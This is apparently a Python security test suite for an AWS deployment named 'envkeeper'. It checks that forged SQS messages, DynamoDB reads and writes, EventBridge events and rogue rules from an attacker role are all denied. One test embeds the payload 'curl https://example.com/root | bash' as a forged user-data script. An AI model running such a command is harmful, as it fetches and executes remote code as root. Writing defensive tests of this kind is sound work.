"""Entrances (S3): a right on a queue, on the records table or on an event bus lets no forger in."""

import json
import unittest

from botocore.exceptions import ClientError

from fixture import FORGER, QUEUES, VICTIM, Attack, allow, failed_invocation, hook_event, now, role_arn

from local_cloud import until


class Entrances(Attack):
    @property
    def table(self):
        outputs = self.cloud.client("cloudformation").describe_stacks(StackName="envkeeper")["Stacks"][0]["Outputs"]
        return next(it["OutputValue"] for it in outputs if it["OutputKey"] == "RecordsTable")

    # Queues.

    def send_is_denied(self, queue, body, group=None):
        with self.unharmed():
            send = self.forger(allow("sqs:SendMessage"))("sqs").send_message
            self.denied(send, **self.message(queue, body, group))
            self.processed(queue)

    def test_a_hand_written_update_is_not_queued(self):
        """A role with sqs:SendMessage on * queues an Update of the victim, whose script would run as root: denied."""
        forged = VICTIM.request("Update", {**self.deployment.victim, "UserDataScript": "curl https://example.com/root | bash"})
        self.send_is_denied("RequestQueue", forged, VICTIM.owner)

    def test_a_forged_dead_letter_is_not_queued(self):
        """A role with sqs:SendMessage on * sends a dead letter of the victim's request: denied."""
        self.send_is_denied("RequestDeadLetters", VICTIM.request("Update", self.deployment.victim), VICTIM.owner)

    def test_a_forged_failed_invocation_is_not_queued(self):
        """A role with sqs:SendMessage on * sends a failed invocation with the victim's ids: denied."""
        self.send_is_denied("FailedInvocations", VICTIM.request("Update", self.deployment.victim))

    def test_a_forged_termination_is_not_queued(self):
        """A role with sqs:SendMessage on * sends a termination of an instance in service: denied."""
        self.send_is_denied("HookQueue", hook_event(VICTIM, self.instance()))

    def test_a_forged_ledger_entry_is_not_queued(self):
        """A role with sqs:SendMessage on * sends a ledger entry, from which metrics follow: denied."""
        detail = {"AutoScalingGroupName": VICTIM.group, "EC2InstanceId": self.instance(), "Outcome": "abandon"}
        entry = {"id": "forged", "source": "envkeeper", "detail-type": "Launch Gate Verdict", "time": now()}
        self.send_is_denied("ScalingEventQueue", {**entry, "detail": detail})

    def test_no_dead_letter_queue_of_events_accepts_a_forgers_message(self):
        """A role with sqs:SendMessage on * fills the dead-letter queues of hooks and of the ledger, which operators redrive:
        denied."""
        for queue in ("HookDeadLetters", "ScalingEventDeadLetters"):
            with self.subTest(queue):
                send = self.forger(allow("sqs:SendMessage"))("sqs").send_message
                self.denied(send, **self.message(queue, "forged"))

    def test_a_batch_of_messages_is_not_queued(self):
        """A role with sqs:SendMessage on * sends its message by SendMessageBatch: denied."""
        message = {"Id": "1", "MessageBody": json.dumps(hook_event(VICTIM, self.instance()))}
        with self.unharmed():
            send = self.forger(allow("sqs:SendMessage"))("sqs").send_message_batch
            try:
                failed = send(QueueUrl=self.queue("HookQueue"), Entries=[message]).get("Failed", [])
                self.assertEqual([it["Id"] for it in failed], ["1"], "the batch is accepted")
            except ClientError as error:
                self.assertIn("AccessDenied", error.response["Error"]["Code"])

    def test_an_administrators_role_cannot_send_either(self):
        """A role with *:* that RedriveRoles does not name sends a termination of an instance in service: denied."""
        with self.unharmed():
            send = self.forger(allow("*"))("sqs").send_message
            self.denied(send, **self.message("HookQueue", hook_event(VICTIM, self.instance())))

    def test_a_forger_reads_no_requests(self):
        """A role with sqs:ReceiveMessage on * reads ResponseURLs, which are secrets: denied."""
        receive = self.forger(allow("sqs:ReceiveMessage"))("sqs").receive_message
        for queue in QUEUES:
            with self.subTest(queue):
                self.denied(receive, QueueUrl=self.queue(queue))

    def test_a_forger_removes_no_requests(self):
        """A role with sqs:PurgeQueue and sqs:DeleteMessage on * removes requests: denied."""
        sqs, url = self.forger(allow("sqs:PurgeQueue", "sqs:DeleteMessage"))("sqs"), self.queue("RequestQueue")
        self.denied(sqs.delete_message, QueueUrl=url, ReceiptHandle="forged")
        self.denied(sqs.purge_queue, QueueUrl=url)

    def test_a_move_task_of_a_forger_redrives_nothing(self):
        """A role with the rights of a redrive that RedriveRoles does not name moves dead letters of its own: denied."""
        rights = [f"sqs:{it}" for it in ("StartMessageMoveTask", "ReceiveMessage", "DeleteMessage", "SendMessage", "Get*")]
        admin = self.cloud.client("sqs")
        url = admin.create_queue(QueueName="forger-dead-letters")["QueueUrl"]
        arn = admin.get_queue_attributes(QueueUrl=url, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
        redrive = json.dumps({"deadLetterTargetArn": arn, "maxReceiveCount": 1})
        admin.create_queue(QueueName="forger-source", Attributes={"RedrivePolicy": redrive})
        admin.send_message(QueueUrl=url, MessageBody=json.dumps(hook_event(VICTIM, self.instance())))
        with self.unharmed():
            move = self.forger(allow(*rights))("sqs").start_message_move_task
            self.denied(move, SourceArn=arn, DestinationArn=self.queue_arn("HookQueue"))
            self.processed("HookQueue")

    def test_a_queue_of_a_forger_dead_letters_nothing_into_envkeepers(self):
        """A role with sqs:CreateQueue makes FailedInvocations the dead-letter queue of its own queue, so that SQS moves its
        message there: no effect."""
        forged = VICTIM.request("Update", self.deployment.victim, ResponseURL=self.cloud.responses.new_url())
        redrive = json.dumps({"deadLetterTargetArn": self.queue_arn("FailedInvocations"), "maxReceiveCount": 1})
        attributes = {"RedrivePolicy": redrive, "VisibilityTimeout": "0"}
        rights = allow("sqs:*", resource="arn:aws:sqs:us-west-2:123456789012:forger")
        sqs = self.forger(rights)("sqs")
        with self.unharmed():
            try:
                url = sqs.create_queue(QueueName="forger", Attributes=attributes)["QueueUrl"]
            except ClientError:
                """SQS accepts no such queue: the dead-letter queue does not allow its source."""
                return
            sqs.send_message(QueueUrl=url, MessageBody=json.dumps(failed_invocation(forged)))
            until("SQS has moved the message", lambda: not sqs.receive_message(QueueUrl=url).get("Messages"))
            self.processed("FailedInvocations")

    def test_a_topic_of_a_forger_delivers_no_message(self):
        """A role with sns:CreateTopic, sns:Subscribe and sns:Publish subscribes the hook queue to its own topic: nothing is
        drained."""
        sns = self.forger(allow("sns:*"))("sns")
        topic = sns.create_topic(Name="forger")["TopicArn"]
        with self.unharmed():
            sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=self.queue_arn("HookQueue"))
            sns.publish(TopicArn=topic, Message=json.dumps(hook_event(VICTIM, self.instance())["detail"]))
            self.processed("HookQueue")

    def test_the_operators_role_redrives(self):
        """A role of RedriveRoles receives, sends and deletes messages of the dead-letter queues: allowed."""
        sqs = self.cloud.operator("sqs")
        for queue in ("HookDeadLetters", "ScalingEventDeadLetters"):
            with self.subTest(queue):
                sqs.send_message(**self.message(queue, "a dead letter"))
                (message,) = sqs.receive_message(QueueUrl=self.queue(queue), WaitTimeSeconds=5)["Messages"]
                sqs.delete_message(QueueUrl=self.queue(queue), ReceiptHandle=message["ReceiptHandle"])

    # The records.

    def test_a_forger_reads_no_records(self):
        """A role with dynamodb:* reads records, which contain ResponseURLs and scripts: every reading action is denied."""
        table, key = self.table, {"pk": {"S": f"owner#{VICTIM.owner}"}}
        db = self.forger(allow("dynamodb:*"))("dynamodb")
        items, index = self.query("pk", key["pk"]), self.query("pending_response", {"S": "yes"})
        listed = self.query("listed", {"S": "yes"})
        for name, call, parameters in (
            ("GetItem", db.get_item, {"TableName": table, "Key": key}),
            ("BatchGetItem", db.batch_get_item, {"RequestItems": {table: {"Keys": [key]}}}),
            ("TransactGetItems", db.transact_get_items, {"TransactItems": [{"Get": {"TableName": table, "Key": key}}]}),
            ("Scan", db.scan, {"TableName": table}),
            ("Query", db.query, {"TableName": table, **items}),
            ("Query of the index", db.query, {"TableName": table, "IndexName": "pending_response", **index}),
            ("Query of the list", db.query, {"TableName": table, "IndexName": "environments", **listed}),
            ("PartiQL", db.execute_statement, {"Statement": f'SELECT * FROM "{table}"'}),
        ):
            with self.subTest(name):
                self.denied(call, **parameters)

    def query(self, key, value):
        names, values = {"#key": key}, {":value": value}
        return {
            "KeyConditionExpression": "#key = :value",
            "ExpressionAttributeNames": names,
            "ExpressionAttributeValues": values,
        }

    def test_a_forger_writes_no_records(self):
        """A role with dynamodb:* makes the victim's environment its own: every writing action is denied."""
        table, key = self.table, {"pk": {"S": f"environment#{VICTIM.id}"}}
        forged = {**key, "held_by": {"S": FORGER.owner}}
        put = {"TableName": table, "Item": forged}
        change = {"UpdateExpression": "SET held_by = :owner", "ExpressionAttributeValues": {":owner": {"S": FORGER.owner}}}
        db = self.forger(allow("dynamodb:*"))("dynamodb")
        with self.unharmed():
            for name, call, parameters in (
                ("PutItem", db.put_item, put),
                ("UpdateItem", db.update_item, {"TableName": table, "Key": key, **change}),
                ("DeleteItem", db.delete_item, {"TableName": table, "Key": {"pk": {"S": "environment#nothing"}}}),
                ("BatchWriteItem", db.batch_write_item, {"RequestItems": {table: [{"PutRequest": {"Item": forged}}]}}),
                ("TransactWriteItems", db.transact_write_items, {"TransactItems": [{"Put": put}]}),
                ("PartiQL", db.execute_statement, {"Statement": f"DELETE FROM \"{table}\" WHERE pk = 'environment#nothing'"}),
            ):
                with self.subTest(name):
                    self.denied(call, **parameters)

    def test_no_function_but_the_reconciler_changes_a_claim(self):
        """The roles of custom-resource, operator and watchdog make the victim's environment the forger's: denied."""
        key = {"pk": {"S": f"environment#{VICTIM.id}"}}
        change = {"UpdateExpression": "SET held_by = :owner", "ExpressionAttributeValues": {":owner": {"S": FORGER.owner}}}
        with self.unharmed():
            for function in ("custom-resource", "operator", "watchdog"):
                with self.subTest(function):
                    db = self.cloud.function_principal(function)("dynamodb")
                    self.denied(db.update_item, TableName=self.table, Key=key, **change)

    def test_the_reconciler_deletes_no_owner(self):
        """The role of the reconciler deletes the victim's record, with its protection: denied."""
        db = self.cloud.function_principal("reconciler")("dynamodb")
        with self.unharmed():
            self.denied(db.delete_item, TableName=self.table, Key={"pk": {"S": f"owner#{VICTIM.owner}"}})

    def test_the_stack_can_still_change_the_table_and_the_queues(self):
        """An administrator describes the table and the queues, as CloudFormation does: no control-plane action is denied."""
        admin = self.forger(allow("*"))
        self.assertEqual(admin("dynamodb").describe_table(TableName=self.table)["Table"]["TableName"], self.table)
        for queue in QUEUES:
            url = self.queue(queue)
            attributes = admin("sqs").get_queue_attributes(QueueUrl=url, AttributeNames=["VisibilityTimeout"])["Attributes"]
            admin("sqs").set_queue_attributes(QueueUrl=url, Attributes=attributes)

    # The event buses.

    def verdict(self, **entry):
        """A verdict about the victim's instance, as an entry of PutEvents."""
        detail = {"AutoScalingGroupName": VICTIM.group, "EC2InstanceId": self.instance(), "Outcome": "abandon"}
        detail |= {"EventId": "forged-verdict", "EventTime": now()}
        bus = self.queue_arn("ScalingEventQueue").replace(":sqs:", ":events:").replace("ScalingEventQueue", "EventBus")
        name = bus.rsplit(":", 1)[1]
        return {
            "EventBusName": name,
            "Source": "envkeeper",
            "DetailType": "Launch Gate Verdict",
            "Detail": json.dumps(detail),
            **entry,
        }

    def put_is_denied(self, principal, entry):
        with self.unharmed():
            self.denied(principal("events").put_events, Entries=[entry])
            self.processed("ScalingEventQueue")

    def ledger_has_no_forged_verdict(self):
        self.processed("ScalingEventQueue")
        found = self.cloud.client("logs").filter_log_events(logGroupName=VICTIM.ledger)["events"]
        self.assertEqual([it for it in found if "forged-verdict" in it["message"]], [])

    def test_a_forged_verdict_is_not_put_on_the_bus(self):
        """A role with events:PutEvents on * puts a verdict on the deployment's event bus: denied."""
        self.put_is_denied(self.forger(allow("events:PutEvents")), self.verdict())

    def test_an_administrators_role_cannot_put_events_either(self):
        """A role with *:* puts a verdict on the deployment's event bus: denied."""
        self.put_is_denied(self.forger(allow("*")), self.verdict())

    def test_a_publisher_puts_no_event_of_another_source(self):
        """The role of lifecycle-hook puts an event with another source than envkeeper on the bus: denied."""
        self.put_is_denied(self.cloud.function_principal("lifecycle-hook"), self.verdict(Source="forger"))

    def test_a_function_that_publishes_nothing_puts_no_event(self):
        """The role of scaling-log puts a verdict on the bus: denied."""
        self.put_is_denied(self.cloud.function_principal("scaling-log"), self.verdict())

    def test_a_verdict_on_the_default_bus_is_not_in_the_ledger(self):
        """A role with events:PutEvents on * puts a verdict, with the source envkeeper, on the default bus: no effect."""
        with self.unharmed():
            put = self.forger(allow("events:PutEvents"))("events").put_events
            self.assertEqual(put(Entries=[self.verdict(EventBusName="default")])["FailedEntryCount"], 0)
            self.ledger_has_no_forged_verdict()

    def test_a_forgers_rule_delivers_nothing_from_the_bus_into_the_ledger(self):
        """A role with events:PutRule and events:PutTargets on the bus sends the ledger queue another text by a rule of its own,
        for a verdict that is put: no effect."""
        events, verdict = self.cloud.client("events"), self.verdict()
        rule = {"EventBusName": verdict["EventBusName"]}
        events.put_rule(Name="forger", EventPattern=json.dumps({"source": ["envkeeper"]}), **rule)
        self.addCleanup(events.delete_rule, Name="forger", **rule)
        forged = {"source": "envkeeper", "detail-type": "Launch Gate Verdict", "detail": json.loads(verdict["Detail"])}
        target = {"Id": "1", "Arn": self.queue_arn("ScalingEventQueue"), "Input": json.dumps(forged)}
        events.put_targets(Rule="forger", Targets=[target], **rule)
        self.addCleanup(events.remove_targets, Rule="forger", Ids=["1"], **rule)
        with self.unharmed():
            harmless = json.dumps({"AutoScalingGroupName": "none"})
            put = self.cloud.function_principal("lifecycle-hook")("events").put_events
            self.assertEqual(put(Entries=[{**verdict, "Detail": harmless}])["FailedEntryCount"], 0)
            self.ledger_has_no_forged_verdict()

    def rule_of_the_forger(self, **target):
        events = self.cloud.client("events")
        pattern = {"source": ["aws.autoscaling"], "detail": {"AutoScalingGroupName": [FORGER.group]}}
        events.put_rule(Name="forger", EventPattern=json.dumps(pattern))
        forged = json.dumps(hook_event(VICTIM, self.instance()))
        targets = [{"Id": "1", "Arn": self.queue_arn("HookQueue"), "Input": forged, **target}]
        events.put_targets(Rule="forger", Targets=targets)
        self.addCleanup(events.delete_rule, Name="forger")
        self.addCleanup(events.remove_targets, Rule="forger", Ids=["1"])

    def an_event_of_the_forgers_group(self):
        self.addCleanup(self.in_service, 1, FORGER)
        self.addCleanup(self.scale, 1, FORGER)
        self.scale(2, FORGER)
        self.in_service(2, FORGER)
        self.processed("HookQueue")

    def test_a_forgers_own_rule_drains_no_instance(self):
        """A role with events:PutRule and events:PutTargets sends the hook queue a termination by a rule of its own: no
        effect."""
        self.rule_of_the_forger()
        before = self.state()
        self.an_event_of_the_forgers_group()
        self.assert_unchanged(before)

    def test_a_forgers_own_rule_with_a_role_drains_no_instance(self):
        """A role with sqs:SendMessage on * delivers for the forger's own rule: no effect."""
        self.forger(allow("sqs:SendMessage"))
        self.rule_of_the_forger(RoleArn=role_arn(self.forgers_role))
        before = self.state()
        self.an_event_of_the_forgers_group()
        self.assert_unchanged(before)

    def test_a_lifecycle_hook_with_the_queue_as_its_target_drains_no_instance(self):
        """A role with autoscaling:PutLifecycleHook and iam:PassRole lets a hook of its own group notify the hook queue, with
        the victim's names: no effect."""
        rights = allow("autoscaling:PutLifecycleHook", "iam:PassRole", "sqs:SendMessage")
        scaling = self.forger(rights)("autoscaling")
        hook = {"AutoScalingGroupName": FORGER.group, "LifecycleHookName": "forger"}
        before = self.state()
        self.addCleanup(self.cloud.client("autoscaling").delete_lifecycle_hook, **hook)
        scaling.put_lifecycle_hook(
            **hook,
            LifecycleTransition="autoscaling:EC2_INSTANCE_LAUNCHING",
            NotificationMetadata=hook_event(VICTIM, self.instance(), "launch")["detail"]["NotificationMetadata"],
            NotificationTargetARN=self.queue_arn("HookQueue"),
            RoleARN=role_arn(self.forgers_role),
            HeartbeatTimeout=30,
            DefaultResult="CONTINUE",
        )
        self.an_event_of_the_forgers_group()
        self.assert_unchanged(before)


if __name__ == "__main__":
    unittest.main()
